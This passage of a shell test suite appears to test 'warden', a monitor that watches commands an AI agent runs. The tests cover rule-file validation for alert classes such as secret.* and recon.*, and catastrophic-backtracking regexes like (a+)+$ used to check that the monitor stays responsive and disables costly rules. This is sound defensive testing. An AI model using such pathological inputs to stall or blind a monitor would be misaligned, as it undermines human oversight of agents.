		assert_rc 125 "policy show, rules $bad"
		assert_err_match "$T_TMP/bad.profile:2:7: rules: " "policy show, rules $bad: the line"
	done
	[[ $ERR == *'not a regular file'* ]] || fail "$(excerpt "$ERR")"
	# a rate for an alert nobody raises (a typo): it would leave the
	# severity CI gates on unchanged, silently; the real names pass
	printf 'rate secret.phantm critical
' >"$T_TMP/typo.rules"
	printf 'rules %s
' "$T_TMP/typo.rules" >"$T_TMP/bad.profile"
	wrun --profile "$T_TMP/bad.profile" -- sh -c 'echo started'
	assert_rc 125 'a rate naming no alert'
	assert_out_lacks started
	[[ $ERR == *"$T_TMP/typo.rules:1: rate secret.phantm: no alert has that name"* ]] || fail "$(excerpt "$ERR")"
	wardenc rules check "$T_TMP/typo.rules"
	assert_rc 1 'rules check of the typo'
	printf 'rate secret.phantom critical
rate exec.* high
rate recon.* low
' >"$T_TMP/rates.rules"
	wardenc rules check "$T_TMP/rates.rules"
	assert_rc 0 'rates naming alerts'
}

# Regular expressions against what the agent runs: (a+)+$ over eight 4 KiB
# arguments costs no more than any other exec (glibc's regexec took a second
# an exec, and held `warden status` and freezes as long); a pattern past its
# budget of steps on one event is turned off, said in an alert and on
# stderr; `warden status` answers all along.
test_detect_regex_bounded() {
	cat >"$T_TMP/slow.rules" <<'R'
rule my.nested low
  on exec argv~(a+)+$
rule my.costly low
  on exec argv~a{0,3000}%
R
	dt_quiet "rules $T_TMP/slow.rules" >/dev/null
	local t0=${EPOCHREALTIME/./} t1 s0 s1 worst=0 n=0
	warden_bg "$T_TMP/rx.out" --profile "$T_TMP/quiet.profile" -- sh -c '
		a=$(head -c 4093 /dev/zero | tr "\0" a)!
		i=0; while [ $i -lt 8 ]; do /bin/true $a $a $a $a $a $a $a $a; i=$((i+1)); done; echo done'
	while kill -0 "$WPID" 2>/dev/null; do
		s0=${EPOCHREALTIME/./}
		timeout 5 "$WARDEN" status >/dev/null 2>&1
		s1=${EPOCHREALTIME/./}
		((s1 - s0 > worst)) && worst=$((s1 - s0))
		n=$((n + 1))
		sleep 0.05
	done
	wait "$TPID"
	local rc=$?
	t1=${EPOCHREALTIME/./}
	[[ $rc == 0 ]] || fail "warden ended with $rc: $(excerpt "$(cat "$T_TMP/rx.out.err")")"
	grep -qx done "$T_TMP/rx.out" || fail 'the execs did not finish'
	note "8 execs of eight 4 KiB arguments: $(((t1 - t0) / 1000)) ms; $n status calls, the slowest $((worst / 1000)) ms"
	((t1 - t0 < 6000000)) || fail "8 execs with a slow pattern took $(((t1 - t0) / 1000)) ms"
	((worst < 1000000)) || fail "warden status took $((worst / 1000)) ms while the rules matched"
	dt_alert detect.rule-bounded high
	grep -F '"rule":"detect.rule-bounded"' "$(latest_log)" | grep -F 'rule my.costly' |
		grep -qF 'the rule is off for the rest of the session' || fail 'the alert does not name my.costly'
	[[ $(grep -cF '"rule":"detect.rule-bounded"' "$(latest_log)") == 1 ]] || fail 'the costly rule was not turned off'
	dt_no_alert my.costly
	grep -qF 'warning: rule my.costly' "$T_TMP/rx.out.err" || fail "no warning on stderr: $(excerpt "$(cat "$T_TMP/rx.out.err")")"
}
